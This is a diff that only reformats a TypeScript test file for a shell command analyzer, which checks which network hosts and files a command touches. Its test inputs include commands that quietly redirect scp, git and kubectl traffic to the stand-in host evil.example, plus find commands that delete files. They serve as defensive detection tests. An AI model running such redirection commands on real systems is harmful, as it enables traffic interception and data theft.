@@ -3,7 +3,9 @@ import { analyze } from "../src/index.ts";
 import { effectsOf } from "./told.ts";
 
 const hostsOf = (line: string): readonly string[] =>
-  analyze(line).commands.flatMap(({ effects }) => effects.flatMap((effect) => (effect.kind === "network" ? [effect.host ?? "?"] : [])));
+  analyze(line).commands.flatMap(({ effects }) =>
+    effects.flatMap((effect) => (effect.kind === "network" ? [effect.host ?? "?"] : [])),
+  );
 
 describe("the hosts of a command are also those that its settings send it to", () => {
   test.each([
@@ -49,7 +51,10 @@ describe("the hosts of a command are also those that its settings send it to", (
     ["ssh -F f h", ["?", "h"]],
     ["ssh -F none h", ["h"]],
     ["scp -o HostName=evil.example f h:", ["evil.example", "h"]],
-    ["git -c url.https://evil.example/.insteadOf=https://a/ clone https://a/x", ["evil.example", "a"]],
+    [
+      "git -c url.https://evil.example/.insteadOf=https://a/ clone https://a/x",
+      ["evil.example", "a"],
+    ],
     ["git -c http.proxy=evil.example:3128 clone https://a/x", ["evil.example", "a"]],
     ["git -c user.name=evil.example status", []],
     ["kubectl -s https://evil.example:6443 get pods", ["evil.example", "?"]],
@@ -80,5 +85,7 @@ describe("files that stand in the arguments of a script, in options and in an ex
     ["find . -not -name .env -delete", "**/.env"],
     ["find . -name .git -prune -o -name x -delete", "**/.git"],
     ["find . -name x -exec echo {} \\;", "**/x"],
-  ])("%s does nothing to %s", (line, name) => expect(effectsOf(line).filter((effect) => effect.endsWith(name))).toEqual([]));
+  ])("%s does nothing to %s", (line, name) =>
+    expect(effectsOf(line).filter((effect) => effect.endsWith(name))).toEqual([]),
+  );
 });
